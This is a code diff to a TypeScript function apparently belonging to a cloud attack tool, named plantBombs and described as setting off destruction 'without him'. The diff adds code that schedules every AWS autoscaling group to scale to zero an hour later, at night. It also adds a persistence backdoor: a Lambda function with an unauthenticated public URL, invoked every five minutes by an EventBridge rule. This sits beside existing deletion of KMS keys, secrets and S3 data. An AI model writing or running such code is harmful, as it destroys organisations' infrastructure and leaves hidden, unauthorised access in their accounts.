@@ -3,7 +3,8 @@ import type { Holdings } from '../holdings.ts';
 
 /**
  * What goes off without him, and what no policy stops once it is set: keys that wait to be deleted, secrets that do,
- * buckets that empty themselves (T1485, T1490). Each once.
+ * buckets that empty themselves, machines that are scaled away, a function of his that is started again and again
+ * (T1485, T1490, T1546). Each once.
  */
 export function plantBombs(doors: readonly HisDoor[], his: Holdings): number {
   return [
@@ -28,6 +29,20 @@ export function plantBombs(doors: readonly HisDoor[], his: Holdings): number {
           LifecycleConfiguration: { Rules: [EMPTIES_ITSELF] },
         }),
     }),
+    ...all(doors, his, {
+      list: ['autoscaling', 'DescribeAutoScalingGroups'],
+      members: ['AutoScalingGroups', 'AutoScalingGroupName'],
+      plant: (AutoScalingGroupName) =>
+        tryDoors(doors, 'autoscaling', 'PutScheduledUpdateGroupAction', {
+          AutoScalingGroupName,
+          ScheduledActionName: 'night',
+          StartTime: new Date(his.now().getTime() + SCALES_IN_MS),
+          MinSize: 0,
+          MaxSize: 0,
+          DesiredCapacity: 0,
+        }),
+    }),
+    plantTimer(doors, his),
   ].filter(Boolean).length;
 }
 
@@ -39,8 +54,25 @@ const EMPTIES_ITSELF = {
   NoncurrentVersionExpiration: { NoncurrentDays: 1 },
 };
 
+/** After the people have gone to bed: a scheduled action goes through a role that no policy of the organization binds. */
+const SCALES_IN_MS = 3_600_000;
+const TIMER = 'health-report';
+
+/** A function with his role that he can also call from anywhere, and a rule that starts it every five minutes. */
+function plantTimer(doors: readonly HisDoor[], his: Holdings): boolean {
+  if (his.done.has(TIMER)) return false;
+  const Role = `arn:aws:iam::${his.account}:role/${his.role}`;
+  const made = tryDoors(doors, 'lambda', 'CreateFunction', { FunctionName: TIMER, Role, Code: {} });
+  if (!made.ok) return false;
+  his.done.add(TIMER);
+  tryDoors(doors, 'lambda', 'CreateFunctionUrlConfig', { FunctionName: TIMER, AuthType: 'NONE' });
+  tryDoors(doors, 'events', 'PutRule', { Name: TIMER, ScheduleExpression: 'rate(5 minutes)' });
+  const Targets = [{ Id: '1', Arn: String(made.output['FunctionArn']) }];
+  return tryDoors(doors, 'events', 'PutTargets', { Rule: TIMER, Targets }).ok;
+}
+
 interface Bomb {
-  readonly list: ['kms' | 'secretsmanager' | 's3', string];
+  readonly list: ['kms' | 'secretsmanager' | 's3' | 'autoscaling', string];
   readonly members: [list: string, id: string];
   readonly plant: (id: string) => Seen;
 }
